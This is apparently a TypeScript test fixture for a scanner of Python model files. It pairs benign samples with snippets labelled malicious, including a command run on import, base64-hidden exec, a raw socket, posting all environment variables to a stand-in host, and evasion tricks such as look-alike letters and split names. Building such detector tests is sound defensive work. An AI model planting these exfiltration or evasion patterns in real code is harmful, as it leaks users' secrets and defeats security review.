import { Buffer } from 'node:buffer'
import type { FormatSamples, Sample } from './types.ts'

const python = (name: string, text: string, rules?: string[], path = 'modeling_x.py'): Sample => ({
  name,
  path,
  bytes: Buffer.from(text),
  ...(rules === undefined ? {} : { rules }),
})

export const pythonSamples: FormatSamples = {
  kind: 'python',
  malicious: [
    python('a program on import', 'import os\nos.system("id")\n', ['PY-PROCESS-001']),
    python('hidden code', 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n', ['PY-HIDDEN-001']),
    python('a socket', 'import socket\ns = socket.create_connection(("203.0.113.5", 1))\n', ['PY-NETWORK-001']),
    python(
      'credentials sent',
      'import requests, os\ndef f():\n  requests.post("https://x.invalid", json=dict(os.environ))\n',
      ['PY-EXFIL-001'],
    ),
    python(
      'a handler',
      'class EndpointHandler:\n  def __init__(self, path):\n    __import__("os").system("id")\n',
      ['PY-PROCESS-002'],
      'handler.py',
    ),
  ],
  benign: [
    python(
      'a module',
      'import torch\nfrom torch import nn\n\nclass X(nn.Module):\n    def forward(self, x):\n        return torch.compile(x).eval()\n',
    ),
    python(
      'a config',
      'from transformers import PretrainedConfig\n\nclass C(PretrainedConfig):\n    model_type = "x"\n',
    ),
    python(
      'a tool',
      '#!/usr/bin/env python3\n"""Run me."""\nimport argparse\n\nif __name__ == "__main__":\n    argparse.ArgumentParser().parse_args()\n',
      undefined,
      'convert.py',
    ),
  ],
  truncated: python('cut in a call', 'import os\nx = os.path.join("a",\n'),
  mutations: [
    python('a name put together', 'import os\ngetattr(os, "sys" + "tem")("id")\n', ['PY-PROCESS-001']),
    python('a decorator', '@exec\n@input\nclass X: pass\n', ['PY-EVAL-001']),
    python('look-alike letters', 'import \uff4f\uff53\n\uff4f\uff53.system("id")\n', ['PY-PROCESS-001']),
    python('another name', 'import os\nos.system("id")\n', ['PY-PROCESS-001'], 'notes.txt'),
  ],
}
